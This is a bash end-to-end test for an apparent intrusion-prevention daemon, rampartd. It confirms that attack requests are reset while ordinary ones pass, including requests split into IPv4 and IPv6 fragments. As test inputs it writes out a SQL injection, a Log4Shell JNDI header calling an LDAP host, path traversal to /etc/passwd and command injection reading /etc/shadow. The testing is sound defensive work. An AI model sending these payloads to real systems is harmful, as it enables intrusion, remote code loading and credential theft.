#!/usr/bin/env bash
# End-to-end L7: rampartd with --rules between a client and a server
# namespace (tools/lab/lab.sh). Real curl requests carrying attacks are
# blocked: the client sees a reset, the server never receives the request;
# ordinary requests on the same kind of connection pass, over IPv4 and IPv6,
# on the standard and a nonstandard port; the same for requests sent as IP
# fragments (scapy). Ends with "N passed, N failed".
#
#   tests/e2e/l7_lab_test.sh [path/to/rampartd]     (root)
set -uo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
export LAB_QUIET=${LAB_QUIET:-1}
# shellcheck source=tools/lab/lab.sh
source "$here/../../tools/lab/lab.sh"
[[ $# -ge 1 ]] && LAB_RAMPARTD=$1
RULES=$here/l7-test.rules

# shellcheck source=tests/e2e/checks.sh
source "$here/checks.sh"

preflight "$LAB_RAMPARTD"

lab_install_traps
lab_up || bail "lab_up"
mkdir -p "$LAB_DIR/www"
echo "rampart l7" >"$LAB_DIR/www/index.html"
lab_http_serve "$LAB_DIR/www" 8080 8443 || bail "HTTP servers on srv"
lab_start_rampartd - --rules "$RULES" --hs-cache "" || bail "rampartd with --rules starts and forwards"
ok "rampartd with $(grep -c '^[a-z]' "$RULES") signatures forwards (pid $LAB_RAMPARTD_PID)"

# curl: exit 0 and the body for a pass; for a block, a reset (56: recv
# failure, 52: empty reply, 7: refused) well before the 5 s timeout.
get() {  # get URL [curl args...] -> "rc body_or_error ms"
  local url=$1 t0 out rc
  shift
  t0=$(date +%s%N)
  out=$(lab_exec_cli curl -sS --max-time 5 "$@" "$url" 2>&1)
  rc=$?
  echo "$rc $(( ($(date +%s%N) - t0) / 1000000 )) ${out//$'\n'/ }"
}
blocked() { [[ $1 == 56 || $1 == 52 || $1 == 7 ]] && (($2 < 4000)); }

for host in "$LAB_SRV4" "[$LAB_SRV6]"; do
  for port in 8080 8443; do
    read -r rc ms body < <(get "http://$host:$port/index.html")
    check "ordinary GET http://$host:$port/index.html passes" "curl $rc, $body" test "$rc" = 0 -a "$body" = "rampart l7"
  done
  read -r rc ms body < <(get "http://$host:8080/item?id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users")
  check "SQL injection in the URI is reset ($host)" "curl $rc after $ms ms" blocked "$rc" "$ms"
  read -r rc ms body < <(get "http://$host:8443/" -H 'X-Api-Version: ${jndi:ldap://198.18.0.1/a}')
  check "Log4Shell JNDI header is reset on port 8443 ($host)" "curl $rc after $ms ms" blocked "$rc" "$ms"
  read -r rc ms body < <(get "http://$host:8080/static/..%2f..%2f..%2fetc/passwd" --path-as-is)
  check "encoded path traversal is reset ($host)" "curl $rc after $ms ms" blocked "$rc" "$ms"
  read -r rc ms body < <(get "http://$host:8080/ping" --data 'host=198.18.0.2;cat /etc/shadow')
  check "command injection in a POST body is reset ($host)" "curl $rc after $ms ms" blocked "$rc" "$ms"
done
read -r rc ms body < <(get "http://$LAB_SRV4:8080/search?q=union+station+opening+hours")
check "a benign request that contains 'union' passes" "curl $rc" test "$rc" = 0 -o "$rc" = 22

# Requests in IP fragments: the kernel's TCP never fragments, so scapy
# speaks TCP from an address the client kernel does not own (the server
# gets a static neighbour entry for it; the client kernel ignores the
# replies instead of resetting the connection). IPv6 fragments reach
# rampartd as they are sent; IPv4 ones are reassembled by the kernel before
# rampartd's af_packet socket gets them (DPDK's net_af_packet joins a fanout
# group with PACKET_FANOUT_FLAG_DEFRAG), so rampartd's own IPv4 reassembly
# is tested by the pcap cases and the evasion matrix, and here the IPv6
# path end to end.
cli_mac=$(lab_exec_cli cat "/sys/class/net/$LAB_IF_CLI/address")
srv_mac=$(lab_exec_srv cat "/sys/class/net/$LAB_IF_SRV/address")
FRAG4=198.18.0.99 FRAG6=2001:db8::99
lab_exec_srv ip neigh replace "$FRAG4" lladdr "$cli_mac" dev "$LAB_IF_SRV" nud permanent
lab_exec_srv ip -6 neigh replace "$FRAG6" lladdr "$cli_mac" dev "$LAB_IF_SRV" nud permanent
frag_get() {  # frag_get SRC DST REQUEST [--reverse] -> the client's JSON line
  local src=$1 dst=$2 req=$3
  shift 3
  lab_exec_cli "$LAB_PY" "$here/frag_http_client.py" --iface "$LAB_IF_CLI" --dst-mac "$srv_mac" \
    --src "$src" --dst "$dst" --port 8080 --request "$req" "$@"
}
traversal='GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\nHost: lab\r\nAccept: */*\r\n\r\n'
ordinary='GET /index.html HTTP/1.1\r\nHost: lab\r\nAccept: */*\r\nConnection: close\r\n\r\n'
out=$(frag_get "$FRAG4" "$LAB_SRV4" "$traversal")
check "an attack in 64-byte IPv4 fragments is reset" "$out" grep -q '"result": "reset"' <<<"$out"
out=$(frag_get "$FRAG4" "$LAB_SRV4" "$traversal" --reverse)
check "the same attack, fragments in reverse order, is reset" "$out" grep -q '"result": "reset"' <<<"$out"
out=$(frag_get "$FRAG6" "$LAB_SRV6" "$traversal")
check "an attack in IPv6 fragments is reset" "$out" grep -q '"result": "reset"' <<<"$out"
out=$(frag_get "$FRAG6" "$LAB_SRV6" "$traversal" --reverse)
check "an attack in IPv6 fragments in reverse order is reset" "$out" grep -q '"result": "reset"' <<<"$out"
for dst in "$LAB_SRV4" "$LAB_SRV6"; do
  src=$FRAG4
  [[ $dst == *:* ]] && src=$FRAG6
  out=$(frag_get "$src" "$dst" "$ordinary")
  check "an ordinary request in fragments is answered ($dst)" "$out" \
    grep -q '"status": "HTTP/1.[01] 200 OK"' <<<"$out"
done

log=$LAB_DIR/http-8080.log  # one server process serves 8080 and 8443
sleep 0.5
leaked=$(grep -ciE 'union%20all|passwd|shadow|jndi|/ping' "$log")
served=$(grep -c 'GET /index.html' "$log")
check "the server never received a blocked request" "$leaked attack lines in its log" test "$leaked" = 0
check "the server received the ordinary requests" "$served" ge "$served" 6

lab_stop_rampartd || nok "rampartd stops with a summary"
alerts=$(lab_summary_get l7.alerts) blocked_flows=$(lab_summary_get l7.flows_blocked)
l7drops=$(lab_summary_get drop_reasons.l7_signature) reqs=$(lab_summary_get l7.http_requests)
check "summary: 12 flows blocked, each by an alert" "$blocked_flows blocked, $alerts alerts, $reqs requests" \
  test "${blocked_flows:-0}" = 12
check "summary: blocked packets counted as l7_signature" "$l7drops" ge "${l7drops:-0}" 12
frag=$(lab_summary_get counters.frag_datagrams)
check "summary: rampartd reassembled the IPv6 fragmented requests" "$frag datagrams" test "${frag:-0}" = 3
pin=$(lab_summary_get packets_in) pout=$(lab_summary_get packets_out) drop=$(lab_summary_get dropped)
check "summary: packets_in == packets_out + dropped" "$pin = $pout + $drop" test "$pin" -eq $((pout + drop))
nblocked=$(lab_net eve-count "$LAB_EVE" --event alert --contains '"action":"blocked"')
nalert=$(lab_net eve-count "$LAB_EVE" --event alert --contains '"signature_id":9010005')
check "EVE: a blocked alert per attack" "$nblocked" ge "$nblocked" 12
check "EVE: the alert-only signature logged allowed requests" "$nalert" ge "$nalert" 4
lab_down
finish
